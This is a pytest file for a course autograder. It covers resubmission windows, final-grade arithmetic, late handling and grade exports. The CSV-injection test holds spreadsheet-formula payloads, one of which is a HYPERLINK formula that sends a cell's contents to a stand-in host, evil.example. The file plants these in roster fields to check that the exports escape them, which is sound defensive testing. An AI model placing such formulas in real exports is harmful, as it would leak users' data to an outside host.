"""Windows and policy, the final-grade arithmetic, and the grade exports."""
import csv
import json
import os
from datetime import datetime, timedelta, timezone
from fractions import Fraction
from pathlib import Path

import nbformat
import pytest

from autograder.cli import main
from autograder.collect import collect_folder
from autograder.course import CourseError
from autograder.export import FORMULA_START, NUMBER, export_canvas, export_gradescope, export_moodle, export_questions
from autograder.final_grade import compute, final_grades, fraction_of, percent
from autograder.grading.run_lab import grade_lab
from autograder.gradebook import open_gradebook
from autograder.policy import Window, feedback_release, load_config, select_versions, session_of, window_for
from autograder.planted_bugs import reference_submission
from course_cli import course_command, scores_printed
from sample_lab import with_answer, write_inbox

LAB = "00_tiny"
END = datetime(2026, 10, 5, 18, 0, tzinfo=timezone.utc)


def versions(*hours):
    return [(Path(f"v{h}"), END + timedelta(hours=h)) for h in hours]


def names(selection):
    return [v.path.name for v in selection.candidates], [v.path.name for v in selection.late]


def test_best_policy_grades_in_session_and_last_in_window():
    window = Window(END, END + timedelta(days=7), "best")
    assert names(select_versions(versions(-2, -1, 30, 100, 200), window)) == (["v-1", "v100"], ["v200"])


def test_last_policy_and_edge_cases():
    window = Window(END, END + timedelta(days=7), "last")
    assert names(select_versions(versions(-1, 30), window)) == (["v30"], [])
    assert names(select_versions(versions(0), window)) == (["v0"], [])  # exactly at the session end: in session
    assert names(select_versions(versions(168), window)) == (["v168"], [])  # exactly at the deadline: counts
    assert names(select_versions(versions(169), window)) == ([], ["v169"])  # only late: nothing counts
    best = Window(END, END + timedelta(days=7), "best")
    assert names(select_versions(versions(-3), best)) == (["v-3"], [])  # no resubmission: one candidate
    assert names(select_versions(versions(5, 6), best)) == (["v6"], [])  # only resubmissions: the last
    assert names(select_versions(versions(-5, 300), None)) == (["v300"], [])  # no windows: newest


def test_windows_from_course_toml(course):
    (course.root / "course.toml").write_text(
        '[course]\npolicy = "best"\nresubmission_days = 7\n'
        '[labs.00_tiny]\nsession_end = 2026-10-05T20:00:00+02:00\n'
        '[labs.00_other]\nsession_end = "2026-10-05T18:00:00Z"\nresubmission_deadline = "2026-10-06T18:00:00Z"\npolicy = "last"\n'
        '[extensions.ada]\n00_tiny = 3\n00_other = "2026-10-20T00:00:00Z"\n')
    config = load_config(course)
    w = window_for(config, "bob", LAB)
    assert w.session_end == END and w.deadline == END + timedelta(days=7) and w.policy == "best"
    assert window_for(config, "ada", LAB).deadline == END + timedelta(days=10)
    assert window_for(config, "ada", "00_other").deadline == datetime(2026, 10, 20, tzinfo=timezone.utc)
    assert window_for(config, "bob", "00_other").policy == "last"
    assert window_for(config, "bob", "unknown_lab") is None


def test_a_session_starts_three_hours_before_its_end_unless_course_toml_says_when():
    config = {"course": {"resubmission_days": 2},
              "labs": {LAB: {"session_end": END},
                       "00_other": {"session_end": END, "session_start": "2026-10-05T09:30:00Z",
                                    "resubmission_deadline": "2026-10-06T12:00:00Z"}},
              "extensions": {"ada": {LAB: 5}}}
    tiny = session_of(config, LAB)
    assert (tiny.start, tiny.end, tiny.deadline) == (END - timedelta(hours=3), END, END + timedelta(days=2))
    other = session_of(config, "00_other")
    assert other.start == END - timedelta(hours=8, minutes=30) and other.deadline == datetime(2026, 10, 6, 12, tzinfo=timezone.utc)
    assert session_of(config, "unknown_lab") is None
    assert window_for(config, "ada", LAB).deadline == tiny.deadline + timedelta(days=5)  # extensions: per student


@pytest.mark.parametrize("toml, message", [
    ("[labs.00_tiny]\npolicy = 'best'\n", "session_end is missing"),
    ("[labs.00_tiny]\nsession_end = 'yesterday'\n", "not a date-time"),
    ("[labs.00_tiny]\nsession_end = 2026-10-05T18:00:00Z\npolicy = 'worst'\n", "must be one of best, last"),
    ("[labs.00_tiny\n", "not valid TOML"),
])
def test_bad_course_toml_says_what_to_fix(course, toml, message):
    (course.root / "course.toml").write_text(toml)
    with pytest.raises(CourseError, match=message):
        window_for(load_config(course), "ada", LAB)


def test_final_grade_arithmetic():
    labs = ("a", "b", "c", "d", "e", "f")
    perfect = {lab: Fraction(1) for lab in labs}
    assert compute(perfect, Fraction(1), labs)[1] == 1 and percent(Fraction(1)) == "100.00"
    assert compute({}, Fraction(1), labs) == (0, Fraction(1, 3))  # missing labs count 0
    notebooks, final = compute({"a": Fraction(1, 2)}, Fraction(0), labs)
    assert notebooks == Fraction(1, 12) and final == Fraction(1, 18)
    assert percent(Fraction(2, 3)) == "66.67" and percent(Fraction(1, 18)) == "5.56" and percent(Fraction(1, 8)) == "12.50"
    assert fraction_of(7.5, 10) == Fraction(3, 4) and fraction_of(3, 0) == 0 and fraction_of(12, 10) == 1


def _submit(course, inbox, name, nb, when):
    path = inbox / name
    nbformat.write(nb, path)
    os.utime(path, (when.timestamp(), when.timestamp()))


def test_windows_end_to_end_with_grades_and_exports(course, tmp_path, capsys):
    (course.root / "course.toml").write_text(
        '[grading]\nlabs = ["00_tiny", "00_other"]\nquiz = "quiz"\n'
        '[labs.00_tiny]\nsession_end = 2026-10-05T18:00:00Z\n')
    source = nbformat.read(course.source(LAB), as_version=4)
    release = nbformat.read(course.release(LAB), as_version=4)
    reference = reference_submission(release, source)
    half = nbformat.from_dict(reference)
    half.cells[3].source = "def square(x):\n    return 0"  # half right: 2 of 5 points
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    # ada: good in session, worse resubmission -> best keeps the in-session one
    _submit(course, inbox, "ada_1.ipynb", reference, END - timedelta(hours=1))
    _submit(course, inbox, "ada_2.ipynb", half, END + timedelta(days=2))
    # bob: half in session, full within the week -> the resubmission counts
    _submit(course, inbox, "bob_1.ipynb", half, END - timedelta(minutes=5))
    _submit(course, inbox, "bob_2.ipynb", reference, END + timedelta(days=6))
    # cy: half in session, full after the window -> recorded as late, not counted
    _submit(course, inbox, "cy_1.ipynb", half, END - timedelta(minutes=1))
    _submit(course, inbox, "cy_2.ipynb", reference, END + timedelta(days=8))
    assert collect_folder(course, inbox, LAB).ok
    records = {r.student: r for r in grade_lab(course, LAB, echo=lambda s: None)}
    assert records["ada"].score == 5 and records["ada"].kind == "in-session"
    assert records["bob"].score == 5 and records["bob"].kind == "resubmission"
    assert records["cy"].score == 2 and records["cy"].kind == "in-session"
    # submitted/ holds each student's latest version; the gradebook records when the counted one came
    with open_gradebook(course) as gb:
        times = {s: gb.find_submission(LAB, s).timestamp for s in ("ada", "bob")}
    assert times["ada"] == (END - timedelta(hours=1)).replace(tzinfo=None)
    assert times["bob"] == (END + timedelta(days=6)).replace(tzinfo=None)

    rerun = grade_lab(course, LAB, echo=lambda s: None)  # nothing changed: nothing regraded
    assert {r.student: r.score for r in rerun} == {"ada": 5, "bob": 5, "cy": 2}

    finals = {f.student: f for f in final_grades(course)}
    assert finals["ada"].final == Fraction(2, 3) * Fraction(1, 2)  # 00_other missing, quiz missing
    assert finals["cy"].labs[LAB] == Fraction(2, 5)

    assert main(["--course-dir", str(course.root), "grades", "--versions"]) == 0
    out = capsys.readouterr().out
    assert "100.00r" in out  # bob's resubmission counted
    assert "40.00 +1 late" in out  # cy's late version is shown, not counted
    assert "late, not counted" in out and "cy_2.ipynb" in out

    canvas = list(csv.reader(open(export_canvas(course), newline="")))
    assert canvas[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert canvas[0][5:] == ["00_tiny", "00_other", "quiz", "Final grade"]
    assert canvas[1][0] == "Points Possible" and canvas[1][5:] == ["100"] * 4
    bob = next(r for r in canvas if r[2] == "bob")
    assert bob[0] == "O'Neil, \"Bobby\", Bob" and bob[3] == "bob@example.edu" and bob[5] == "100.00" and bob[8] == "33.33"

    moodle = list(csv.DictReader(open(export_moodle(course), newline="")))
    assert {r["Email address"]: r["00_tiny"] for r in moodle}["cy@example.edu"] == "40.00"
    questions = list(csv.DictReader(open(export_questions(course), newline="")))
    cy_square = next(r for r in questions if r["student_id"] == "cy" and r["question"] == "test_square")
    assert cy_square["score"] == "0" and cy_square["max_score"] == "3" and "square" in cy_square["message"]
    results = json.loads((export_gradescope(course) / "cy" / LAB / "results.json").read_text())
    assert results["score"] == 2 and [t["score"] for t in results["tests"]] == [2.0, 0.0]
    assert results["tests"][1]["status"] == "failed"


def test_moodle_export_refuses_students_without_email(course):
    from autograder.grading.records import CellResult, GradeRecord
    from autograder.gradebook import save_record

    course.roster_path.write_text("id,first_name,last_name,email\nada,Ada,L,ada@example.edu\nzed,Zed,Z,\n")
    save_record(course, GradeRecord("ada", LAB, cells=[CellResult("test_double", 2, 2, "passed"),
                                                       CellResult("test_square", 3, 3, "passed")]))
    with pytest.raises(CourseError, match="no e-mail in roster.csv for: zed"):
        export_moodle(course)


@pytest.mark.parametrize("command", [["grades"], ["export"], ["export", "--format", "canvas"]])
def test_grades_and_exports_without_grades_say_so_in_one_line(tmp_path, course, capsys, command):
    missing = tmp_path / "no-such-course"
    assert main(["--course-dir", str(missing)] + command) == 2
    out, err = capsys.readouterr()
    assert err.count("\n") == 1 and "no such course directory" in err and "--course-dir" in err and not out
    assert not missing.exists()
    empty = tmp_path / "empty"
    empty.mkdir()
    assert main(["--course-dir", str(empty)] + command) == 2
    out, err = capsys.readouterr()
    assert err.strip() == f"error: nothing graded in {empty} yet (no gradebook): run `course grade LAB` first" and not out
    assert list(empty.iterdir()) == []  # no gradebook made as a side effect
    assert main(["--course-dir", str(course.root)] + command) == 2  # released, nothing graded
    assert "nothing graded in" in capsys.readouterr().err


def test_the_quiz_is_graded_once_and_its_feedback_waits_for_the_last_deadline(course, lab, tmp_path, capsys):
    """A quiz that gave per-question results and took resubmissions could be brute-forced, one letter at a time."""
    quiz = LAB  # the tiny lab stands in for the quiz: [grading] quiz names it
    (course.root / "course.toml").write_text(
        f'[grading]\nlabs = ["00_other"]\nquiz = "{quiz}"\n'
        f'[labs.{quiz}]\nsession_end = 2026-10-05T18:00:00Z\n'
        '[labs.00_other]\nsession_end = 2026-10-05T18:00:00Z\n')
    config = load_config(course)
    assert window_for(config, "ada", quiz).deadline == END and window_for(config, "ada", quiz).policy == "last"
    assert window_for(config, "ada", "00_other").deadline == END + timedelta(days=7)  # a lab keeps its week
    half = nbformat.from_dict(lab.reference)
    half.cells[3].source = "def square(x):\n    return 0"
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    _submit(course, inbox, "ada_1.ipynb", half, END - timedelta(hours=2))
    _submit(course, inbox, "ada_2.ipynb", lab.reference, END + timedelta(hours=1))  # after seeing the results
    assert collect_folder(course, inbox, quiz).ok
    records = {r.student: r for r in grade_lab(course, quiz, echo=lambda s: None)}
    assert records["ada"].score == 2 and records["ada"].kind == "in-session"

    # its feedback goes out once the last deadline, extensions included, has passed; a lab's at once
    later = datetime.now(timezone.utc) + timedelta(days=2)
    (course.root / "course.toml").write_text(
        f'[grading]\nquiz = "{quiz}"\n[labs.{quiz}]\nsession_end = 2026-10-05T18:00:00Z\n'
        f'[extensions.bob]\n{quiz} = "{later.isoformat()}"\n')
    assert feedback_release(load_config(course), quiz) == later
    assert feedback_release(load_config(course), "00_other") is None
    capsys.readouterr()
    assert main(["--course-dir", str(course.root), "feedback", quiz]) == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "graded once" in err and later.isoformat(timespec="minutes") in err
    assert not (course.root / "feedback").exists() or not any((course.root / "feedback").rglob("*.html"))
    assert main(["--course-dir", str(course.root), "feedback", quiz, "--force"]) == 0
    (course.root / "course.toml").write_text(f'[grading]\nquiz = "{quiz}"\n[labs.{quiz}]\nsession_end = 2026-10-05T18:00:00Z\n')
    assert main(["--course-dir", str(course.root), "feedback", quiz]) == 0
    assert any((course.root / "feedback").rglob("*.html"))


def test_late_by_nbgraders_timestamp(course, tmp_path):
    """An nbgrader course: submitted/STUDENT/LAB/ and timestamp.txt written by nbgrader's exchange, the due date in
    its gradebook. Late as nbgrader computes it (timestamp after the due date) and shown as late; counted as
    nbgrader's late rule says: in full under its default (LateSubmissionPlugin.penalty_method 'none'), not at all
    under 'zero'."""
    (course.root / "course.toml").write_text('[grading]\nlabs = ["00_tiny"]\n')
    with open_gradebook(course) as gb:
        gb.update_or_create_assignment(LAB, duedate=datetime(2026, 1, 1))
    reference = reference_submission(nbformat.read(course.release(LAB), as_version=4),
                                     nbformat.read(course.source(LAB), as_version=4))
    for student, stamp in (("ada", "2025-12-31 23:59:59.000000 UTC"), ("bob", "2099-01-01 00:00:00.000000 UTC"),
                           ("cy", None)):
        folder = course.submitted_dir(student, LAB)
        folder.mkdir(parents=True)
        nbformat.write(reference, folder / f"{LAB}.ipynb")
        if stamp:
            (folder / "timestamp.txt").write_text(stamp)

    graded = course_command(course, "grade", LAB)
    scores = scores_printed(graded)
    assert {s: v[0] for s, v in scores.items()} == {"ada": 5, "bob": 5, "cy": 5}  # cy: no timestamp, on time
    assert "[late]" in scores["bob"][1] and "[late]" not in scores["ada"][1]
    with open_gradebook(course) as gb:  # nbgrader's own view (formgrader, nbgrader export) says late too
        late = {s: gb.find_submission(LAB, s).total_seconds_late for s in ("ada", "bob", "cy")}
    assert late["ada"] == 0 and late["cy"] == 0 and late["bob"] > 2_000_000_000
    shown = course_command(course, "grades", "--versions").stdout
    assert "100.00 +1 late" in shown and "received 2099-01-01 00:00 UTC (late, counted)" in shown
    assert "00_tiny.ipynb time unknown (any)" in shown

    (course.root / "nbgrader_config.py").write_text("c = get_config()\nc.LateSubmissionPlugin.penalty_method = 'zero'\n")
    scores = scores_printed(course_command(course, "grade", LAB))
    assert {s: v[0] for s, v in scores.items()} == {"ada": 5, "bob": 0, "cy": 5}
    assert "[late]" in scores["bob"][1] and "only late versions were received (the last at 2099-01-01 00:00 UTC)" in \
        scores["bob"][1]
    shown = course_command(course, "grades", "--versions").stdout
    assert "0.00 +1 late" in shown and "received 2099-01-01 00:00 UTC (late, not counted)" in shown


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"grades")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1", "\r=1",
            " =1", "\uff1dHYPERLINK()"]


def test_exports_carry_no_formula(course, lab, tmp_path):
    """Roster and gradebook names, e-mails and a student's exception class named like formulas: no field of any CSV
    export starts as one (each escaped with a leading apostrophe), numbers stay numbers, and results.json asks
    Gradescope for plain text."""
    (course.root / "course.toml").write_text('[grading]\nlabs = ["00_tiny"]\n')
    with open(course.roster_path, "w", newline="") as f:
        csv.writer(f).writerows([["id", "first_name", "last_name", "email", "section"],
                                 ["ada", FORMULAS[0], FORMULAS[1], "ada@example.edu", FORMULAS[3]],
                                 ["bob", FORMULAS[2], "Bob", "bob@example.edu", "A"]])
    with open_gradebook(course) as gb:  # names from nbgrader's gradebook (not stripped as roster.csv's are)
        gb.update_or_create_student("dee", first_name=FORMULAS[4], last_name=FORMULAS[5] + FORMULAS[6], email=FORMULAS[7])
    hostile = ("def double(x):\n    raise type('" + FORMULAS[0].replace("'", "\\'") + "', (Exception,), {})('boom')")
    inbox = write_inbox(tmp_path / "inbox", {"ada": with_answer(lab.reference, "double", hostile), "bob": lab.reference})
    assert collect_folder(course, inbox, LAB).ok
    grade_lab(course, LAB, echo=lambda s: None)

    done = course_command(course, "export")
    assert done.returncode == 1 and "moodle: not written: no e-mail in roster.csv for: dee" in done.stderr
    exports = course.root / "exports"
    fields = {name: [field for row in csv.reader(open(exports / name, newline="", encoding="utf-8")) for field in row]
              for name in ("grades.csv", "questions.csv", "canvas.csv")}
    for name, values in fields.items():
        for value in values:
            if not NUMBER.fullmatch(value):
                assert not any(c in FORMULA_START for c in value[:1] + value.lstrip()[:1]), (name, value)
    questions = list(csv.DictReader(open(exports / "questions.csv", newline="", encoding="utf-8")))
    [message] = [q["message"] for q in questions if q["student_id"] == "ada" and q["question"] == "test_double"]
    assert message.startswith("'" + FORMULAS[0])  # escaped, and still readable
    grades = list(csv.DictReader(open(exports / "grades.csv", newline="", encoding="utf-8")))
    ada = next(row for row in grades if row["student_id"] == "ada")
    assert ada["first_name"] == "'" + FORMULAS[0] and ada["last_name"] == "'" + FORMULAS[1]
    assert ada[f"{LAB} score"] == "3" and ada["final %"] == "40.00"  # numbers stay numbers
    dee = next(row for row in grades if row["student_id"] == "dee")
    assert (dee["first_name"], dee["last_name"], dee["email"]) == ("'" + FORMULAS[4], "'" + FORMULAS[5] + FORMULAS[6],
                                                                  "'" + FORMULAS[7])
    canvas = list(csv.reader(open(exports / "canvas.csv", newline="", encoding="utf-8")))
    assert canvas[1][5:] == ["100"] * 3 and any(row[4] == "'@cmd" for row in canvas)  # the section too

    result = json.loads((exports / "gradescope" / "ada" / LAB / "results.json").read_text())
    assert result["output_format"] == result["test_output_format"] == result["test_name_format"] == "text"
    assert any(FORMULAS[0] in test["output"] for test in result["tests"])  # JSON: shown as text by Gradescope

    course.roster_path.write_text("id,first_name,last_name,email\nada,Ada,L,ada@example.edu\nbob,Bob,O,@bob@example.edu\n")
    with pytest.raises(CourseError, match="e-mail in roster.csv of bob starts like a spreadsheet formula"):
        export_moodle(course)
